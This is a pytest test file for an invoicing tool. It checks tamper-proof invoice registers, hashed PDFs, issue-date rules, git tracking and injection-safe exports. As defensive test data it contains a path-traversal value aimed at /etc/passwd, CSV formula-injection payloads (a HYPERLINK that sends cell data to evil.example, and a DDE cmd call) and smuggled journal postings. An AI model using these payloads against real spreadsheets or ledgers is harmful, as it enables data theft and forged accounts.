"""The register and its invoices cannot be lost, forged or written over; exports cannot be injected.

Issue #10, points 2, 3, 4, `issue 0000-01` (10) and the exports (8). The books are those of
test_invoicing (acme and beta, October issued on 2026-11-05 for 226.88 and 205.16 EUR).
"""

from __future__ import annotations

import csv
import datetime
import errno
import hashlib
import io
import os
import shutil
import subprocess
import sys
from collections import defaultdict
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import SELLER
from conftest import run_cli
from conftest import write_books
from test_invoicing import ACME
from test_invoicing import BOOKS
from test_invoicing import GIT_IDENTITY
from test_invoicing import check
from test_invoicing import commit
from test_invoicing import edit
from test_invoicing import git
from test_invoicing import issue
from test_invoicing import issued  # noqa: F401  (fixture)
from test_invoicing import lines_of
from test_invoicing import make_repo
from test_invoicing import records
from test_invoicing import repo  # noqa: F401  (fixture)

from hourbook.output import export
from hourbook.checks import issued as issued_checks
from hourbook.checks import register as register_checks
from hourbook.core import register
from hourbook.core.documents import Document
from hourbook.invoicing import register_file
from hourbook.load.register import read_register_text

RESTORE = "restore it with git checkout -- issued.yaml"


def tree(root: Path) -> dict[str, bytes]:
    """Every file under the books but .git and the check cache: what a refused command must not change."""
    return {path.relative_to(root).as_posix(): path.read_bytes() for path in sorted(root.rglob("*"))
            if path.is_file() and not path.is_symlink() and ".git" not in path.parts
            and ".hourbook-cache" not in path.parts}


def refusal(err: str) -> str:
    return next(line for line in err.splitlines() if line.startswith("hourbook: issue refused: "))


def record_line(root: Path, number: str) -> int:
    return lines_of(root).index(f'- number: "{number}"') + 1


# ------------------------------------------------------------------ 2. the register only grows


def _delete(path: Path) -> None:
    path.unlink()


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _header_only(path: Path) -> None:
    path.write_bytes(register.REGISTER_HEADER.encode("utf-8"))


def _folder(path: Path) -> None:
    path.unlink()
    path.mkdir()
    (path / "records.yaml").write_text("- nothing\n", encoding="utf-8")


def _fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _symlink(path: Path) -> None:
    copy = path.parent.parent / "elsewhere.yaml"
    copy.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(copy)


NOT_A_FILE = ("not a file: the register must be the file `hourbook issue` writes; move this away and restore the "
              "register from git (git checkout -- issued.yaml)")
REGISTER_DAMAGE = {
    "deleted": (_delete, "issued.yaml:1: error: issued.yaml is missing, but the last commit has it with 2 records: "
                f"the register is append-only, so issued invoices never disappear; {RESTORE}"),
    "emptied": (_empty, "issued.yaml:1: error: issued.yaml is empty, but the last commit has it with 2 records: "
                f"the register is append-only, so issued invoices never disappear; {RESTORE}"),
    "shortened": (_header_only, "issued.yaml:4: error: issued.yaml differs from the committed version from this "
                  "line on: the register is append-only, so committed records must never change or disappear; "
                  f"{RESTORE}"),
    "a folder": (_folder, f"issued.yaml:1: error: issued.yaml is a folder, {NOT_A_FILE}"),
    "a FIFO": (_fifo, f"issued.yaml:1: error: issued.yaml is a named pipe (FIFO), {NOT_A_FILE}"),
    "a symlink": (_symlink, f"issued.yaml:1: error: issued.yaml is a symbolic link, {NOT_A_FILE}"),
}


def run_hourbook(*args: str) -> tuple[int, str]:
    """The real command in its own process, with a time limit: a read that blocks fails the test."""
    env = {**os.environ, **GIT_IDENTITY}
    result = subprocess.run([sys.executable, "-m", "hourbook", *args], capture_output=True, text=True, env=env,
                            timeout=120)
    return result.returncode, result.stderr


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
@pytest.mark.parametrize("damage", sorted(REGISTER_DAMAGE))
def test_a_register_that_lost_committed_records_is_an_error_and_issue_refuses(issued, damage):  # noqa: F811
    make, expected = REGISTER_DAMAGE[damage]
    make(issued / "issued.yaml")
    before = tree(issued)
    code, err = run_hourbook("check", str(issued), "--as-of", "2026-11-20")
    assert code == 1
    assert expected in err.splitlines()
    code, err = run_hourbook("issue", "2026-11", str(issued), "--as-of", "2026-11-30")
    assert code == 1
    assert expected in err.splitlines()
    assert refusal(err).endswith("; nothing was written")
    assert tree(issued) == before
    assert not (issued / "invoices" / "2026-0001.pdf").is_symlink()


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_a_register_removed_in_a_commit_cannot_reissue_its_numbers(issued):  # noqa: F811
    """git keeps the removal; the invoices' PDFs stay, are reported, and are never written over."""
    git(issued, "rm", "-q", "issued.yaml")
    commit(issued, "the register goes")
    orphan = ("invoices/{}.pdf:1: warning: invoice PDF without a record in issued.yaml (left by an interrupted "
              "`hourbook issue`?); running `hourbook issue` for its period again with the same --date finishes it; an invoice PDF is never written over")
    assert check(issued) == (0, [orphan.format("2026-0001"), orphan.format("2026-0002")])
    code, _, err = issue(issued, "2026-10", "2026-11-06")
    assert code == 1
    assert refusal(err).startswith("hourbook: issue refused: invoices/2026-0001.pdf, invoices/2026-0002.pdf are "
                                   "already there, and an invoice file is never written over")
    assert not (issued / "issued.yaml").exists()


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_a_grown_register_is_fine(issued):  # noqa: F811
    assert issue(issued, "2026-11", "2026-11-30")[0] == 0
    assert check(issued, "2026-12-01") == (0, [])


# ------------------------------------------------------------------ 2. PDFs: never written over, hashed, checked


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_every_record_holds_its_pdfs_sha256(issued):  # noqa: F811
    for record in records(issued):
        assert record.pdf_sha256 == hashlib.sha256((issued / record.pdf).read_bytes()).hexdigest()
    assert 'pdf_sha256: "' in (issued / "issued.yaml").read_text(encoding="utf-8")


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
@pytest.mark.parametrize("how", ["changed", "replaced", "missing", "a folder"])
def test_check_reports_an_issued_pdf_that_changed(issued, how):  # noqa: F811
    pdf = issued / "invoices" / "2026-0001.pdf"
    if how == "changed":
        pdf.write_bytes(pdf.read_bytes() + b"%% edited\n")
    elif how == "replaced":
        pdf.write_bytes((issued / "invoices" / "2026-0002.pdf").read_bytes())
    else:
        pdf.unlink()
        if how == "a folder":
            pdf.mkdir()
    line = record_line(issued, "2026-0001")
    what = {"changed": "was changed or replaced after it was issued (its SHA-256 is not the one in issued.yaml)",
            "missing": "is missing", "a folder": "is a folder, not a file: move it away and"}
    how_to = ("restore it from git (git checkout -- invoices/2026-0001.pdf); an issued invoice is kept as it was "
              "sent")
    separator = " " if how == "a folder" else ": "
    assert check(issued) == (1, [
        f"issued.yaml:{line}: error: the PDF of invoice 2026-0001 (acme, 2026-10), invoices/2026-0001.pdf, "
        f"{what.get(how, what['changed'])}{separator}{how_to}"])


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_a_record_from_before_pdf_sha256_still_verifies(issued, tmp_path):  # noqa: F811
    """Records written before the field existed are read with it empty and hashed as written."""
    old = []
    previous = register.GENESIS
    for record in records(issued):
        record = register.sealed(replace(record, pdf_sha256="", previous=previous))
        old.append(record)
        previous = record.hash
    text = register.REGISTER_HEADER + "".join(register.record_text(record) for record in old)
    assert "pdf_sha256" not in text
    found, problems = read_register_text(text)
    assert problems == [] and register_checks.verify_register(found) == []
    assert [record.pdf_sha256 for record in found] == ["", ""]
    # Such a record can only be checked for a missing file.
    (tmp_path / "invoices").mkdir()
    (tmp_path / "invoices" / "2026-0001.pdf").write_bytes(b"anything")
    assert [d.message for d in register_checks.check_pdfs(tmp_path, found)] == [
        "the PDF of invoice 2026-0002 (beta, 2026-10), invoices/2026-0002.pdf, is missing: restore it from git "
        "(git checkout -- invoices/2026-0002.pdf); an issued invoice is kept as it was sent"]


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_an_edited_pdf_sha256_breaks_the_chain(issued):  # noqa: F811
    digest = records(issued)[0].pdf_sha256
    edit(issued, "issued.yaml", digest, "0" * 64)
    line = record_line(issued, "2026-0001")
    assert (f"issued.yaml:{line}: error: record 2026-0001 was changed after it was written: its hash does not "
            "match its fields; restore issued.yaml from git (git checkout -- issued.yaml)") in check(issued)[1]


def test_a_pdf_path_outside_invoices_is_refused_before_any_read(tmp_path):
    record = register.sealed(replace(plan_one(), pdf="invoices/../../../etc/passwd.pdf"))
    found, problems = read_register_text(register.record_text(record))
    assert found == []
    assert [(d.source.line, d.message) for d in problems] == [
        (17, "register field 'pdf' must name a file in invoices/ like invoices/2026-0001.pdf, got "
             "'invoices/../../../etc/passwd.pdf': the register was edited by hand")]


@pytest.mark.parametrize("kind", ["a file", "a symlink"])
def test_issue_never_writes_over_an_existing_pdf(repo, tmp_path, kind):  # noqa: F811
    target = repo / "invoices" / "2026-0001.pdf"
    target.parent.mkdir()
    outside = tmp_path / "precious.pdf"
    outside.write_bytes(b"%PDF-1.4 a file that is not this invoice")
    if kind == "a file":
        shutil.copy(outside, target)
    else:
        target.symlink_to(outside)
    commit(repo, "a PDF in the way")
    before = tree(repo)
    code, _, err = issue(repo)
    assert code == 1
    shown = "invoices/2026-0001.pdf" + (" (a symbolic link)" if kind == "a symlink" else "")
    assert refusal(err) == (
        f"hourbook: issue refused: {shown} is already there, and an invoice file is never written over; no record "
        "in issued.yaml has it (left by an interrupted `hourbook issue` of another day, or put there by hand): if "
        "that invoice was never sent, move the file out of invoices/ and issue again; nothing was written")
    assert tree(repo) == before
    assert outside.read_bytes() == b"%PDF-1.4 a file that is not this invoice"
    assert not (repo / "issued.yaml").exists()


@pytest.mark.slow  # issues invoices with their PDFs in a git repository
def test_a_pdf_left_by_a_killed_issue_is_kept_when_it_is_the_same(repo):  # noqa: F811
    assert issue(repo)[0] == 0
    first = (repo / "invoices" / "2026-0001.pdf").read_bytes()
    inode = (repo / "invoices" / "2026-0001.pdf").stat().st_ino
    (repo / "issued.yaml").unlink()             # as if killed before the register was written
    (repo / "invoices" / "2026-0002.pdf").unlink()
    assert issue(repo)[0] == 0
    assert (repo / "invoices" / "2026-0001.pdf").read_bytes() == first
    assert (repo / "invoices" / "2026-0001.pdf").stat().st_ino == inode
    assert check(repo) == (0, [])


def plan_one(number_format: str = "{year}-{seq:04d}", credit_format: str = "R{year}-{seq:04d}",
             kinds: tuple[str, ...] = ("invoice",), existing=()) -> register.IssuedRecord:
    """Records planned for October (pure): the first, or all of them with `kinds`."""
    return plan_many(number_format, credit_format, kinds, existing)[0]


def plan_many(number_format, credit_format, kinds, existing=()) -> list[register.IssuedRecord]:
    from hourbook.core.records import Party
    from hourbook.core.records import Settings

    settings = Settings(seller=Party("S"), number_format=number_format, credit_number_format=credit_format)
    docs = [(Document(kind, "acme", "2026-10", "X" if kind == "credit" else "", (), (), Decimal(1),
                                Decimal(0), Decimal(1), "EUR", Decimal(0), False), None) for kind in kinds]
    return register.plan_records(docs, list(existing), settings, datetime.date(2026, 11, 5), "0" * 40)


def test_two_invoices_of_one_batch_never_share_a_pdf():
    batch = plan_many("{year}/{seq}", "{year}-{seq}", ("invoice", "credit"))
    assert [record.pdf for record in batch] == ["invoices/2026-1.pdf", "invoices/2026-1.pdf"]
    assert register.name_clashes(batch, []) == [
        "corrective invoice 2026-1 (acme, 2026-10) would be written to invoices/2026-1.pdf, the file of invoice "
        "2026/1 (acme, 2026-10)"]
    # Letters that differ only in case are one file on a case-insensitive file system.
    earlier = plan_many("A-{seq}", "R{seq}", ("invoice",))
    later = plan_many("a/{seq}", "R{seq}", ("invoice",))
    assert register.name_clashes(later, earlier) == [
        "invoice a/1 (acme, 2026-10) would be written to invoices/a-1.pdf, the file of invoice A-1 (acme, 2026-10)"]
    assert register.name_clashes(plan_many("{year}-{seq}", "R{seq}", ("invoice", "credit")), []) == []
    assert register.pdf_name(".hidden/1") == "invoices/-hidden-1.pdf"


def test_an_append_keeps_every_old_byte():
    """The register's new bytes are its old bytes, then the records (pure: `core.register.appended_register`)."""
    planned = plan_many("{year}-{seq:04d}", "R{year}-{seq:04d}", ("invoice", "credit"))
    records_text = "".join(register.record_text(record) for record in planned).encode("utf-8")
    assert register.appended_register(b"", planned) == register.REGISTER_HEADER.encode("utf-8") + records_text
    old = b"# a register whose last line has no line break"
    assert register.appended_register(old, planned) == old + b"\n" + records_text
    found, problems = read_register_text(register.appended_register(b"", planned).decode("utf-8"))
    assert (found, problems) == (planned, []) and register_checks.verify_register(found) == []


def test_issue_refuses_a_credit_note_whose_pdf_is_an_earlier_invoices(tmp_path, monkeypatch):
    for key, value in GIT_IDENTITY.items():
        monkeypatch.setenv(key, value)
    seller = SELLER + "invoice:\n  number: 'A/{seq}'\n  credit_number: 'a-{seq}'\n"
    root = make_repo(tmp_path / "books", {"hourbook.yaml": seller, "contracts/acme.yaml": ACME,
                                          "logbook/2026-10.md": BOOKS["logbook/2026-10.md"].split("## beta")[0]})
    assert issue(root)[0] == 0
    assert [record.pdf for record in records(root)] == ["invoices/A-1.pdf"]
    write_books(root, {"hourbook.yaml": seller,
                       "logbook/2026-11.md": "# 2026-11-03\n\n## acme\n- expense -30.00 Refund #correction #A/1\n"
                                             "- 1h Printer driver\n"})
    commit(root, "issue October; a correction")
    before = tree(root)
    code, _, err = issue(root, "2026-11", "2026-11-30")
    assert code == 1
    assert refusal(err) == (
        "hourbook: issue refused: corrective invoice a-1 (acme, 2026-11) would be written to invoices/a-1.pdf, the "
        "file of invoice A/1 (acme, 2026-10): make the number patterns in hourbook.yaml (invoice: number, "
        "credit_number) tell the series apart by more than case or punctuation; nothing was written")
    assert tree(root) == before


# ------------------------------------------------------------------ 3. the issue date is today, or earlier


@pytest.fixture
def today_is(monkeypatch):
    def pin(day: str) -> None:
        monkeypatch.setattr(issued_checks, "real_today", lambda: datetime.date.fromisoformat(day))
    return pin


FUTURE = ("hourbook: issue refused: the issue date {day} is after today (2026-11-10): an invoice is dated the day "
          "it is issued, or earlier with --date, never later; nothing was written")


@pytest.mark.parametrize("how", ["--as-of", "--date", "HOURBOOK_TODAY"])
def test_a_future_issue_date_is_refused(repo, today_is, monkeypatch, how):  # noqa: F811
    today_is("2026-11-10")
    if how == "HOURBOOK_TODAY":
        monkeypatch.setenv("HOURBOOK_TODAY", "2026-11-11")
        code, out, err = run_cli("issue", "2026-10", str(repo))
    else:
        code, out, err = run_cli("issue", "2026-10", str(repo), how, "2026-11-11")
    assert (code, out) == (1, "")
    assert refusal(err) == FUTURE.format(day="2026-11-11")
    assert not (repo / "issued.yaml").exists() and not (repo / "invoices").exists()


def test_a_far_future_as_of_is_refused_not_a_crash(repo):  # noqa: F811
    code, _, err = run_cli("issue", "2026-10", str(repo), "--as-of", "9999-12-31")
    assert code == 1
    assert refusal(err).startswith("hourbook: issue refused: the issue date 9999-12-31 is after today (")


@pytest.mark.slow  # issues invoices with their PDFs in a git repository
def test_back_dating_with_date_is_allowed_within_the_rules(repo, today_is, monkeypatch):  # noqa: F811
    today_is("2026-11-20")
    monkeypatch.setenv("HOURBOOK_TODAY", "2026-11-19")
    code, _, err = run_cli("issue", "2026-10", str(repo), "--date", "2026-11-05")
    assert code == 0, err
    assert [record.issued.isoformat() for record in records(repo)] == ["2026-11-05", "2026-11-05"]
    commit(repo, "issue October")
    code, _, err = run_cli("issue", "2026-11", str(repo), "--date", "2026-11-04")
    assert code == 1
    assert refusal(err) == ("hourbook: issue refused: the issue date 2026-11-04 is before that of the last invoice, "
                            "2026-0002 of 2026-11-05: numbers must follow the dates; nothing was written")
    assert run_cli("issue", "2026-11", str(repo), "--date", "2026-11-05", "--as-of", "2026-11-05")[0] == 0


@pytest.mark.parametrize("args, message", [
    (["--date", "yesterday"], "--date expects a date like 2026-11-30, got 'yesterday'"),
    (["--date", "10000-01-01"], "--date expects a date like 2026-11-30, got '10000-01-01'"),
    (["--date", "2026-11-05", "--as-of", "2026-11-06"],
     "--date and --as-of both name the issue date; give one of them"),
])
def test_bad_dates_are_usage_errors(repo, args, message):  # noqa: F811
    assert run_cli("issue", "2026-10", str(repo), *args) == (2, "", f"hourbook: error: {message}\n")


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_check_compares_records_issued_after_the_as_of_date(issued):  # noqa: F811
    edit(issued, "logbook/2026-10.md", "- 1h30m @ana Server migration", "- 2h @ana Server migration")
    code, problems = check(issued, "2026-10-31")     # October was issued on 2026-11-05, after this day
    assert code == 1
    assert [p for p in problems if ": error: " in p] == [
        "logbook/2026-10.md:4: error: entry changed after invoice 2026-0001 (acme, 2026-10) was issued: invoiced as "
        "billed 1h30m at 60.00 = 90.00, now billed 2h00m at 60.00 = 120.00; restore it as it was invoiced (git "
        "checkout) and record the difference as a #correction entry in an open period instead (see "
        "docs/invoicing.md)"]


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_a_record_dated_in_the_future_is_an_error(issued, today_is):  # noqa: F811
    today_is("2026-11-03")                       # the register says 2026-11-05: two days ahead of the clock
    code, problems = check(issued, "2026-11-03")
    assert code == 1
    assert problems[:2] == [
        f"issued.yaml:{record_line(issued, number)}: error: invoice {number} ({client}, 2026-10) is dated "
        "2026-11-05, after today (2026-11-03): an invoice is never dated in the future; restore issued.yaml from "
        "git (git checkout -- issued.yaml)" for number, client in (("2026-0001", "acme"), ("2026-0002", "beta"))]


# ------------------------------------------------------------------ 4. the audit trail is whole


def _ignored(root: Path) -> str:
    (root / ".gitignore").write_text("logbook/extra.md\n", encoding="utf-8")
    commit(root, "ignore a logbook")
    (root / "logbook" / "extra.md").write_text("# 2026-10-07\n\n## acme\n- 1h Hidden work\n", encoding="utf-8")
    return ("logbook/extra.md: ignored by git (a .gitignore rule, .git/info/exclude or core.excludesFile; see git "
            "check-ignore -v -- logbook/extra.md); take it out of the ignore rules, git add it and commit it")


def _untracked(root: Path) -> str:
    (root / "logbook" / "extra.md").write_text("# 2026-10-07\n\n## acme\n- 1h Hidden work\n", encoding="utf-8")
    return "?? logbook/extra.md"


def _assume_unchanged(root: Path) -> str:
    git(root, "update-index", "--assume-unchanged", "logbook/2026-10.md")
    edit(root, "logbook/2026-10.md", "- 2h Firewall rules", "- 3h Firewall rules")
    assert git(root, "status", "--porcelain") == ""  # git does not see the change
    return ("logbook/2026-10.md: git is told to assume it unchanged (assume-unchanged), so its changes are not "
            "seen; run git update-index --no-assume-unchanged -- logbook/2026-10.md, then commit it")


def _skip_worktree(root: Path) -> str:
    git(root, "update-index", "--skip-worktree", "contracts/beta.yaml")
    edit(root, "contracts/beta.yaml", "rate: 80", "rate: 95")
    assert git(root, "status", "--porcelain") == ""
    return ("contracts/beta.yaml: git is told to skip it (skip-worktree, as a sparse checkout does), so its changes "
            "are not seen; run git update-index --no-skip-worktree -- contracts/beta.yaml, then commit it")


@pytest.mark.parametrize("state", [_ignored, _untracked, _assume_unchanged, _skip_worktree],
                         ids=["ignored", "untracked", "assume-unchanged", "skip-worktree"])
def test_issue_refuses_books_git_does_not_record_as_they_are(repo, state):  # noqa: F811
    named = state(repo)
    before = tree(repo)
    code, _, err = issue(repo)
    assert code == 1
    assert [line for line in err.splitlines() if line.startswith(f"  {named}")]
    assert refusal(err).startswith("hourbook: issue refused: ")
    assert tree(repo) == before


def test_an_ignored_editor_backup_is_not_in_the_way(repo):  # noqa: F811
    (repo / ".gitignore").write_text("*~\n.*.swp\n", encoding="utf-8")
    commit(repo, "ignore backups")
    (repo / "logbook" / "2026-10.md~").write_text("old", encoding="utf-8")
    (repo / "logbook" / ".2026-10.md.swp").write_text("swap", encoding="utf-8")
    assert issue(repo)[0] == 0


@pytest.mark.slow  # issues invoices with their PDFs in a git repository
def test_issue_refuses_a_register_not_committed_as_it_is(repo):  # noqa: F811
    assert issue(repo)[0] == 0                   # October: the register is new, not yet in git
    code, _, err = issue(repo, "2026-11", "2026-11-30")
    assert code == 1
    assert refusal(err) == (
        "hourbook: issue refused: the register must be in git before more invoices follow it: issued.yaml: not in "
        "git (untracked); git add -- issued.yaml, then commit it; nothing was written")
    commit(repo, "issue October")
    git(repo, "update-index", "--assume-unchanged", "issued.yaml")
    assert "issued.yaml: git is told to assume it unchanged" in refusal(issue(repo, "2026-11", "2026-11-30")[2])
    git(repo, "update-index", "--no-assume-unchanged", "issued.yaml")
    assert issue(repo, "2026-11", "2026-11-30")[0] == 0
    code, _, err = issue(repo, "2026-12", "2026-12-02")   # November's records are not committed
    assert code == 1
    assert refusal(err) == (
        "hourbook: issue refused: issued.yaml has changes that are not committed (the records of the last "
        "`hourbook issue`?): commit the register and the invoices first: git add issued.yaml invoices && git "
        "commit; nothing was written")


# ------------------------------------------------------------------ 10. no traceback


@pytest.mark.parametrize("period, message", [
    ("0000-01", "PERIOD must be in the years 0001 to 9998, got '0000-01'"),
    ("9999-12", "PERIOD must be in the years 0001 to 9998, got '9999-12'"),
    ("9999-Q4", "PERIOD must be in the years 0001 to 9998, got '9999-Q4'"),
    ("10000-01", "PERIOD must be a month like 2026-10, a quarter like 2026-Q4 or a year like 2026, got '10000-01'"),
    ("2026-13", "PERIOD must be a month like 2026-10, a quarter like 2026-Q4 or a year like 2026, got '2026-13'"),
    ("2026-Q5", "PERIOD must be a month like 2026-10, a quarter like 2026-Q4 or a year like 2026, got '2026-Q5'"),
])
def test_impossible_periods_are_usage_errors(repo, period, message):  # noqa: F811
    assert run_cli("issue", period, str(repo), "--as-of", "2026-11-05") == (2, "", f"hourbook: error: {message}\n")


def test_invoices_that_is_a_file_is_a_refusal(repo):  # noqa: F811
    (repo / "invoices").write_text("not a folder", encoding="utf-8")
    commit(repo, "a file named invoices")
    code, _, err = issue(repo)
    assert code == 1
    assert refusal(err) == ("hourbook: issue refused: invoices is a file, not a folder: `hourbook issue` writes the "
                            "invoices' PDFs into the folder invoices/ of the books; move it away; nothing was written")
    assert not (repo / "issued.yaml").exists()


@pytest.mark.slow  # issues invoices with their PDFs in a git repository
def test_a_full_disk_while_writing_pdfs_leaves_nothing(repo, monkeypatch):  # noqa: F811
    real_fsync, calls = os.fsync, []

    def fsync(fd):
        calls.append(fd)
        if len(calls) == 2:                      # the second PDF
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    code, out, err = issue(repo)
    assert (code, out) == (1, "")
    pdf = repo / "invoices" / "2026-0002.pdf"
    assert err == f"hourbook: error: cannot read or write {pdf}: No space left on device\n"
    assert not (repo / "invoices").exists() and not (repo / "issued.yaml").exists()
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert issue(repo)[0] == 0


def test_a_full_disk_while_writing_the_register_leaves_no_pdf(repo, monkeypatch):  # noqa: F811
    def full(path, unused_data, unused_mode=0o644):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(register_file, "write_file_atomically", full)
    code, _, err = issue(repo)
    assert code == 1
    assert err == f"hourbook: error: cannot read or write {repo / 'issued.yaml'}: No space left on device\n"
    assert not (repo / "invoices").exists() and not (repo / "issued.yaml").exists()


# ------------------------------------------------------------------ 8. exports cannot be injected


INJECTED_NAME = "ACME\n    assets:cash  1000 EUR\n2026-01-01 * injected\n    assets:cash  5 EUR\n    income  -5 EUR"


def hostile(found: list[register.IssuedRecord]) -> list[register.IssuedRecord]:
    """The records with every text field carrying a line break and a posting."""
    evil = "\n    assets:cash  1000 EUR\n"
    return [replace(record, number=record.number + evil, client=record.client + evil, period=record.period + evil,
                    commit=record.commit + "\r\n2026-01-01 open Assets:Cash") for record in found]


def hledger_balances(journal: Path) -> dict[str, str]:
    result = subprocess.run(["hledger", "-f", str(journal), "balance", "--flat", "--no-total", "-O", "csv",
                             "--depth", "1"], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return {row[0]: row[1] for row in csv.reader(io.StringIO(result.stdout)) if row[0] != "account"}


def hostile_names(bad: list[register.IssuedRecord]) -> dict[str, str]:
    return {bad[0].client: INJECTED_NAME, bad[1].client: 'Beta "GmbH"; \\ \x1b[31m\u2028 2026-01-01 * x'}


def accounts_of(journal: Path) -> list[str]:
    return subprocess.run(["hledger", "-f", str(journal), "accounts"], capture_output=True, text=True,
                          check=True).stdout.splitlines()


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_journal_values_cannot_inject_postings(issued, tmp_path):  # noqa: F811
    found = records(issued)
    bad = hostile(found)
    text = export.hledger_journal(bad, hostile_names(bad))
    assert "\n    assets:cash" not in text and "\n2026-01-01" not in text
    assert "ACME\\n    assets:cash  1000 EUR\\n2026-01-01 * injected" in text
    ledger = export.beancount_journal(bad, hostile_names(bad))
    assert "\n    assets:cash" not in ledger and "\n2026-01-01 open Assets:Cash" not in ledger
    if shutil.which("hledger") is None:
        pytest.skip("hledger is not installed (apt-get install hledger): the journal is not parsed")
    clean, dirty = tmp_path / "clean.journal", tmp_path / "hostile.journal"
    clean.write_text(export.hledger_journal(found, {}), encoding="utf-8")
    dirty.write_text(text, encoding="utf-8")
    assert hledger_balances(dirty) == hledger_balances(clean) == {
        "assets": "432.04 EUR", "income": "-359.90 EUR", "liabilities": "-72.14 EUR"}
    assert len(accounts_of(dirty)) == len(accounts_of(clean)) and "assets:cash" not in accounts_of(dirty)


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_beancount_values_cannot_inject_postings(issued, tmp_path):  # noqa: F811
    pytest.importorskip("beancount")
    from beancount import loader
    from beancount.core import data

    path = tmp_path / "hostile.beancount"
    bad = hostile(records(issued))
    path.write_text(export.beancount_journal(bad, hostile_names(bad)), encoding="utf-8")
    entries, errors, _ = loader.load_file(str(path))
    assert errors == []
    sums = defaultdict(Decimal)
    for entry in entries:
        if isinstance(entry, data.Transaction):
            assert "\n" not in entry.payee and "\n" not in entry.narration
            for posting in entry.postings:
                sums[posting.account.split(":")[0]] += posting.units.number
    assert dict(sums) == {"Assets": Decimal("432.04"), "Income": Decimal("-359.90"),
                          "Liabilities": Decimal("-72.14")}
    assert "Assets:Cash" not in {getattr(entry, "account", "") for entry in entries}


def test_csv_text_cells_cannot_be_formulas(books, tmp_path):
    root = books({"contracts/acme.yaml": ACME, "logbook/2026-10.md": (
        "# 2026-10-05\n\n## acme\n"
        '- 1h =HYPERLINK("http://evil.example/?"&A1,"click")\n'
        "- 30m +cmd|' /C calc'!A0\n")})
    code, _, err = run_cli("export", str(root), "--as-of", "2026-11-05", "--out", str(tmp_path / "out"))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "lines.csv").read_text(encoding="utf-8"))))
    assert [row["description"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|' /C calc'!A0"]
    assert [row["amount"] for row in rows] == ["60.00", "30.00"]


def test_csv_keeps_negative_amounts_numbers_and_neutralises_text():
    row = export.csv_row(["-acme", "2026-10", "2026-10-05", "logbook/x.md:1", "expense", "billed", "", "\tby",
                          "\rworker", "-tag", 0, 0, "", "-30.00", "-30.00", "EUR", "@ref", "-1", "@SUM(1+1)"])
    assert row == ["'-acme", "2026-10", "2026-10-05", "logbook/x.md:1", "expense", "billed", "", "'\tby",
                   "'\rworker", "'-tag", 0, 0, "", "-30.00", "-30.00", "EUR", "'@ref", "'-1", "'@SUM(1+1)"]


# ------------------------------------------------------------------ what a cache of `check` must key on


@pytest.mark.slow  # an issued register first: git commits and invoice PDFs
def test_register_inputs_change_with_the_pdfs_and_the_committed_register(issued):  # noqa: F811
    before = issued_checks.register_inputs(issued)
    pdf = issued / "invoices" / "2026-0001.pdf"
    data = pdf.read_bytes()
    pdf.write_bytes(data[:-1] + b"X")           # same name, same size
    after_edit = issued_checks.register_inputs(issued)
    assert after_edit != before
    git(issued, "rm", "-q", "issued.yaml")
    commit(issued, "the register goes")
    assert issued_checks.register_inputs(issued) != after_edit
